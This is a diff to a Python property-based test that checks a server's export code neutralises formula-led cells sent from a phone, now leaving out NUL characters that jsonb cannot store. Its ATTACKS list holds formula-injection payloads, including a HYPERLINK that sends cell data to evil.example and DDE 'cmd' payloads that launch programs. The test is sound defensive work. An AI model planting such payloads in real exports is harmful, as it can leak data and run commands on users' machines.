@@ -11,10 +11,16 @@ from hypothesis import strategies as st
 from server.services.exports import FORMULA_LEADS, _write_row, neutralise_cell
 from tests.api.sync_helpers import SyncSession
 
-# Text as a phone could send it (no lone surrogates: not valid JSON text), often led by a formula character.
+# Any text (no lone surrogates: not valid JSON text), often led by a formula character.
 TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=60)
 LED = st.tuples(st.sampled_from(FORMULA_LEADS + ("'", " ", "井")), TEXT).map("".join)
 CELL = LED | TEXT
+# What a phone can store in a record: PostgreSQL's jsonb holds no NUL character.
+STORABLE = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")
+PHONE_TEXT = st.text(STORABLE, max_size=60)
+PHONE_LED = st.tuples(st.sampled_from([c for c in FORMULA_LEADS if c != "\x00"] + ["'", " ", "井"]), PHONE_TEXT).map(
+    "".join)
+PHONE_CELL = PHONE_LED | PHONE_TEXT
 ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            "=cmd|' /C notepad'!'A1'", "\t=1+1", "\r=1+1", "\uff1d1+1", "@", "=", "-"]
 
@@ -50,8 +56,8 @@ def test_the_visit_export_quotes_every_cell_a_phone_filled_with_a_formula(client
     desk = auth.headers("g1-1")
 
     @settings(max_examples=40, deadline=None)
-    @given(place=LED.filter(lambda s: 1 <= len(s) <= 120), needs=CELL, notes=CELL,
-           contact_name=LED.filter(lambda s: len(s) <= 60))
+    @given(place=PHONE_LED.filter(lambda s: 1 <= len(s) <= 120), needs=PHONE_CELL, notes=PHONE_CELL,
+           contact_name=PHONE_LED.filter(lambda s: len(s) <= 60))
     def export_of(place, needs, notes, contact_name):
         visit = phone.mutation("visit", "create", {
             "place_kind": "household", "place": place, "needs": needs, "notes": notes,
